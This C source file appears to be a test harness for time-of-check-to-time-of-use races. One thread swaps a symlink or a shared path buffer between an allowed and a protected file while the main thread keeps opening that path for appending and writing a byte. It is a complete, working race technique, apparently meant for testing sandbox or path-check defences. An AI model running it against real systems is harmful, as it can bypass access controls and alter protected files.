/* TOCTOU attempts: a second thread keeps swapping either a symlink (mode "symlink") or the bytes
 * of the path buffer (mode "buffer") between an allowed file and a protected one while the main
 * thread opens the path for appending and writes one byte each time.
 * usage: race MODE ALLOWED PROTECTED LINK ROUNDS   (ALLOWED and PROTECTED of equal length) */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char path[512];
static const char *allowed, *protected_, *link_path;
static atomic_int stop;
static int mode_buffer;

static void *flipper(void *arg) {
  (void)arg;
  char tmp[600];
  snprintf(tmp, sizeof(tmp), "%s.tmp", link_path);
  for (unsigned i = 0; !atomic_load(&stop); i++) {
    const char *target = (i & 1) ? protected_ : allowed;
    if (mode_buffer) {
      memcpy(path, target, strlen(target) + 1);
    } else {
      unlink(tmp);
      if (symlink(target, tmp) == 0) rename(tmp, link_path);
    }
  }
  return NULL;
}

int main(int argc, char **argv) {
  if (argc < 6) return 2;
  mode_buffer = strcmp(argv[1], "buffer") == 0;
  allowed = argv[2];
  protected_ = argv[3];
  link_path = argv[4];
  int rounds = atoi(argv[5]);
  snprintf(path, sizeof(path), "%s", mode_buffer ? allowed : link_path);
  pthread_t th;
  pthread_create(&th, NULL, flipper, NULL);
  int opened = 0;
  for (int i = 0; i < rounds; i++) {
    int fd = open(path, O_WRONLY | O_APPEND);
    if (fd < 0) continue;
    opened++;
    if (write(fd, "X", 1) < 0) perror("write");
    close(fd);
  }
  atomic_store(&stop, 1);
  pthread_join(th, NULL);
  printf("opened %d\n", opened);
  return 0;
}
